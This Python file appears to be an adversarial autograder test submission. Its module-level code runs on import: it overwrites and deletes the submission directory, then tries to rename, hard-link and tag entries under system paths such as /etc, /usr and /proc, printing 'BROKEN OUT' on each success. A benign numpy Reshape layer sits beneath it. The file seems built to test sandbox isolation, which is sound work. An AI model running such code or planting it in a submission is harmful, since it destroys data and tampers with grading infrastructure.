"""Delete and change the submission itself, and whatever else can be deleted or changed.

Deserves: ex03/forward 2, ex03/backward 2
"""

import os
import shutil

import numpy as np

for name in ("ex06_losses.py", "ex07_softmax.py", "layer.py"):
    for mode in ("w", "a", "r+"):
        try:
            with open(f"/submission/{name}", mode) as file:
                file.write("raise SystemExit\n")
        except OSError:
            continue
shutil.rmtree("/submission", ignore_errors=True)
for top in ("/", "/kit", "/usr", "/etc", "/dev", "/proc", os.path.dirname(os.__file__)):
    for name in os.listdir(top)[:50]:
        path = os.path.join(top, name)
        for act in (
            lambda path: os.rename(path, path),  # does nothing where it can be done
            lambda path: os.link(path, path + "-attack-was-here"),
            lambda path: os.setxattr(path, "user.marks", b"100"),
        ):
            try:
                act(path)
                print("BROKEN OUT", path)
            except OSError:
                continue


class Reshape:
    def __init__(self, input_shape, output_shape):
        self.input_shape, self.output_shape = input_shape, output_shape

    def forward(self, input, training=False):
        return np.reshape(input, self.output_shape)

    def backward(self, output_gradient, learning_rate):
        return np.reshape(output_gradient, self.input_shape)
